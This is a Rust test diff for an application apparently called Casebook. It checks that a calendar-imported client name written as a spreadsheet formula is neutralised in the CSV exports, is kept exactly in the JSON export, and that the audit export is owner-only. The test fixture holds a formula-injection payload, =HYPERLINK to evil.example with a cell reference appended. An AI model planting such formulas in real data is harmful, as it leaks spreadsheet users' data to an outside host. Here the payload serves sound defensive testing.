@@ -257,3 +257,62 @@ fn a_saved_feed_is_refreshed_over_https_and_removed() {
     let identity = all_text(&v.open_store("identity.db", &ik));
     assert!(!identity.contains("feed.ics"));
 }
+
+/// A booking-page visitor who names themselves as a spreadsheet formula becomes a client by
+/// calendar import. Every CSV Casebook writes shows that name as text (a leading apostrophe),
+/// the JSON beside it keeps it exactly, and the audit export is owner-only.
+#[test]
+fn a_formula_for_a_name_never_runs_in_a_spreadsheet() {
+    let v = TestVault::new(KeyStore::Passphrase);
+    let ics = v.home.path().join("booking.ics");
+    std::fs::write(
+        &ics,
+        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nUID:formula@e2e\r\n\
+         SUMMARY:=HYPERLINK(\"https://evil.example/?\"&A1\\,\"Click\")\r\n\
+         DTSTART:20260610T100000Z\r\nDTEND:20260610T105000Z\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n",
+    )
+    .unwrap();
+    let name = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";
+    let mut args = vec!["calendar", "import", ics.to_str().unwrap()];
+    args.extend(WINDOW);
+    args.push("--yes");
+    v.json(&args);
+
+    let out = v.home.path().join("export");
+    v.json(&["export", "--all", out.to_str().unwrap()]);
+    let json = std::fs::read_to_string(out.join("client_identity.json")).unwrap();
+    assert!(
+        json.contains(&serde_json::to_string(name).unwrap()),
+        "the JSON keeps the name exactly: {json}"
+    );
+    let mut found = false;
+    for entry in std::fs::read_dir(&out).unwrap().flatten() {
+        let path = entry.path();
+        if path.extension().is_none_or(|e| e != "csv") {
+            continue;
+        }
+        let mut reader = csv::Reader::from_path(&path).unwrap();
+        for record in reader.records() {
+            for cell in record.unwrap().iter() {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{} has a cell a spreadsheet would run: {cell:?}",
+                    path.display()
+                );
+                found |= cell == format!("'{name}");
+            }
+        }
+    }
+    assert!(found, "the name is in the CSV, as text");
+
+    let audit = v.home.path().join("audit.csv");
+    v.cmd()
+        .args(["audit", "export", "--out", audit.to_str().unwrap()])
+        .assert()
+        .success();
+    use std::os::unix::fs::PermissionsExt;
+    let mode = std::fs::metadata(&audit).unwrap().permissions().mode() & 0o777;
+    assert_eq!(mode, 0o600, "the audit export is owner-only");
+    let mut reader = csv::Reader::from_path(&audit).unwrap();
+    assert!(reader.records().count() > 2, "the trail was written");
+}
